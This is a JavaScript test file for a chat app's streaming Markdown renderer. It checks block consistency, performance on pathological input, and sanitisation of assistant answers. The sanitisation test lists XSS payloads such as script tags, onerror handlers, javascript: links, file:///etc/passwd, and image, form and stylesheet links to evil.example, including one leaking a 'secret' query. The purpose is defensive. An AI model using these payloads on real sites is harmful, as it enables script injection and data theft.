// Markdown: a text that arrives bit by bit becomes the blocks of the whole text; hostile text costs no time and becomes nothing but text.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { BlockStream } from '../../web/lib/blocks.js';
import { launch } from './helpers/browser.mjs';
import { foreignRequests, startChatSite, withChat } from './helpers/chat.mjs';
import { LONGEST } from './helpers/echo-model.mjs';

const FRAME_MS = 50;

/** What a reader sees of blocks: their kinds and texts. */
const shape = (blocks) =>
  blocks
    .filter((b) => b.token?.type !== 'space')
    .map((b) => [b.token?.type ?? b.type, b.raw.trim(), b.lang, JSON.stringify(b.token?.tokens)]);

/** A generator of random numbers below n, the same each time. */
function randomFrom(seed) {
  let state = seed;
  return (n) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * n);
  };
}

const PIECES = [
  '# Head',
  'word',
  ' ',
  '\n',
  '\n\n',
  '- item',
  '  - deeper',
  '1. one',
  '2) two',
  '> quote',
  '```js',
  '```',
  '~~~',
  '    code',
  '|a|b|\n|-|-|',
  '|c|d|',
  '---',
  '===',
  '**bold**',
  '*em',
  '_x_',
  '`c`',
  '[l](http://x.y)',
  '[r]',
  '[r]: /u',
  '![i](j)',
  '<div>',
  '</div>',
  'a  ',
  '\\*',
  '&lt;',
  '\r\n',
  '\t',
  '~~s~~',
  'http://a.bc',
  'é🙂',
  '***',
  '[ ] t',
  '- [x] t',
  '\0',
];

test('a text that grows gives the blocks of the whole text, and final blocks stay the same objects', () => {
  for (let seed = 1; seed <= 400; seed++) {
    const random = randomFrom(seed);
    let text = '';
    const stream = new BlockStream();
    let previous = [];
    for (let i = 0; i < 40; i++) {
      text += PIECES[random(PIECES.length)];
      const blocks = stream.update(text);
      assert.equal(
        blocks.map((b) => b.raw).join('').length,
        text.replace(/\r\n/g, '\n').replace(/\r$/, '\n').length,
        JSON.stringify(text),
      );
      const kept = previous.findIndex((b, at) => b !== blocks[at]);
      if (kept >= 0)
        assert.ok(previous.slice(kept).filter((b) => b.token?.type !== 'space').length <= 3, JSON.stringify(text));
      previous = blocks;
    }
  }
});

test('streamed and whole text agree on texts as assistants write them', () => {
  const text =
    '# Title\n\nA *first* paragraph\nof two lines.\n\n- one\n- two\n  - deep\n\n  loose\n- three\n\n1. a\n2. b\n\n> quote\nlazy\n\n```js\nlet x = "```";\n\n// blank above\n```\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\nSetext\n---\n\nEnd **bold** [link](https://x.y).\n\n```\nunclosed\n';
  const whole = shape(new BlockStream().update(text));
  for (const step of [1, 3, 7]) {
    const stream = new BlockStream();
    let blocks = [];
    for (let n = step; n < text.length + step; n += step) blocks = stream.update(text.slice(0, n));
    assert.deepEqual(shape(blocks), whole);
  }
});

test('a text that is replaced starts over', () => {
  const stream = new BlockStream();
  stream.update('# one\n\ntwo\n\nthree');
  assert.deepEqual(
    shape(stream.update('other')).map(([type]) => type),
    ['paragraph'],
  );
});

const HOSTILE = {
  stars: '*',
  'stars and letters': 'a*',
  bold: '**a ',
  brackets: '[',
  links: '[a](',
  images: '![',
  backticks: '`',
  'backticks apart': '` a',
  tildes: '~~a ',
  tags: '<a ',
  angles: '<',
  quotes: '> ',
  'quotes close': '>',
  items: '- ',
  numbers: '1. ',
  pipes: '|',
  tables: 'a|b\n-|-\n',
  entities: '&',
  escapes: '\\',
  underscores: '_a',
  mixed: '*_',
  hashes: '#',
  addresses: 'http://',
  mails: 'a@b.',
  lists: '* a\n',
  'deeper lists': '- a\n  ',
  definitions: '[a]: b\n',
  fences: '```\n',
  comments: '<!--',
  spaces: ' ',
  tabs: '\t',
  lines: '\n',
  'blank lines': 'a\n\n',
  zeroes: '\0',
  carriage: '\r',
};

test('up to 10^5 of anything cost no frame', { timeout: 240_000 }, () => {
  new BlockStream().update('warm **up** [a](b) `c`\n\n- x');
  const cases = Object.entries(HOSTILE).flatMap(([name, unit]) =>
    [450, 4000, 19_000, 100_000].map((n) => [`${n} of ${name}`, unit.repeat(n / unit.length)]),
  );
  for (const [name, text] of cases) {
    let worst = Infinity;
    for (let run = 0; run < 3; run++) {
      // the best of three: the machine has other work, too
      const stream = new BlockStream();
      stream.update(text.slice(0, -1));
      const start = performance.now();
      stream.update(text);
      worst = Math.min(worst, performance.now() - start);
    }
    assert.ok(worst < FRAME_MS, `${name}: ${worst.toFixed(0)} ms`);
  }
});

const ALLOWED =
  'P EM STRONG DEL CODE PRE UL OL LI BLOCKQUOTE H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD HR BR A SPAN DIV FIGURE FIGCAPTION OA-COPY BUTTON SVG PATH RECT';

const XSS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=1>',
  '<svg onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '[x](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1)',
  '[x](java\tscript:window.pwned=1)',
  '[x](&#106;avascript:window.pwned=1)',
  '[x](data:text/html,<script>pwned=1</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://x/1)',
  '![x](javascript:window.pwned=1)',
  '![x](https://evil.example/p.png?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/q.png',
  '<javascript:window.pwned=1>',
  '[x]: javascript:window.pwned=1\n\n[x]',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example><button>x</button></form>',
  '<oa-app></oa-app>',
  '<div style="position:fixed;inset:0">',
  '<a href="https://evil.example" ping="https://evil.example">x</a>',
  '<video src=https://evil.example/x poster=https://evil.example/y>',
  '<object data=https://evil.example>',
  '${alert(1)}',
  '{{constructor.constructor("window.pwned=1")()}}',
  '<!--><img src=x onerror=window.pwned=1>',
  '`<img src=x onerror=window.pwned=1>`',
  '```html"><img src=x onerror=window.pwned=1>\n<b>x</b>\n```',
  '| <img src=x onerror=window.pwned=1> | b |\n|-|-|\n| <script>window.pwned=1</script> | c |',
  '# <img src=x onerror=window.pwned=1>',
  '> - <svg/onload=window.pwned=1>',
  '<math><mtext></table><mglyph><style><img src onerror=window.pwned=1>',
  '<x onclick=window.pwned=1 tabindex=1 autofocus onfocus=window.pwned=1>',
];

/** Texts joined to messages that the echo model repeats whole. */
function together(texts) {
  const messages = [''];
  for (const text of texts) {
    const longer = `${messages.at(-1)}${text}\n\n`;
    if (Buffer.byteLength(longer) < LONGEST) messages[messages.length - 1] = longer;
    else messages.push(`${text}\n\n`);
  }
  return messages;
}

test('an answer becomes elements of the list and nothing else; it fetches nothing', { timeout: 120_000 }, async () => {
  const browser = await launch();
  const site = await startChatSite();
  try {
    await withChat({ browser, site }, async (chat, context) => {
      const foreign = foreignRequests(context, site);
      const seen = { tags: [], handlers: [], links: [], text: '' };
      for (const words of together(XSS)) {
        await chat.ask(words);
        const more = await chat.page
          .locator('.answer oa-markdown')
          .last()
          .evaluate((root) => ({
            tags: [...new Set([...root.querySelectorAll('*')].map((e) => e.tagName.toUpperCase()))],
            handlers: [...root.querySelectorAll('*')].flatMap((e) =>
              e.getAttributeNames().filter((n) => n.startsWith('on') || n === 'style' || n === 'src'),
            ),
            links: [...root.querySelectorAll('a')].map((a) => [a.protocol, a.rel, a.target]),
            text: root.textContent,
          }));
        for (const key of Object.keys(seen)) seen[key] = seen[key].concat(more[key]);
      }
      assert.deepEqual(
        seen.tags.filter((tag) => !ALLOWED.split(' ').includes(tag)),
        [],
      );
      assert.deepEqual(seen.handlers, []);
      assert.ok(seen.links.length > 0);
      for (const [protocol, rel, target] of seen.links) {
        assert.ok(['http:', 'https:', 'mailto:'].includes(protocol), protocol);
        assert.deepEqual([rel, target], ['noopener noreferrer nofollow', '_blank']);
      }
      for (const shown of [
        '<script>window.pwned=1</script>',
        '<style>*{display:none}</style>',
        '${alert(1)}',
        'evil.example',
      ])
        assert.ok(seen.text.includes(shown), shown);
      await chat.page.waitForTimeout(300);
      assert.equal(await chat.page.evaluate(() => 'pwned' in window), false);
      assert.deepEqual(foreign, []);

      await chat.ask(
        '[mybank.com](https://evil.example/a) https://good.example/b <me@x.example> [https://mybank.com/evil.example](https://evil.example/)',
      );
      const line = (await chat.texts()).at(-1);
      assert.equal(
        line,
        'mybank.com (evil.example) https://good.example/b me@x.example https://mybank.com/evil.example (evil.example)',
      );

      await chat.ask('### deep\n\n# top\n\n### skipped\n\n###### more\n\n## back');
      const levels = await chat.page
        .locator('oa-message')
        .last()
        .locator('.h')
        .evaluateAll((all) => all.map((e) => e.tagName));
      assert.deepEqual(levels, ['H3', 'H3', 'H4', 'H5', 'H4']);
    });
  } finally {
    await browser.close();
    await site.close();
  }
});
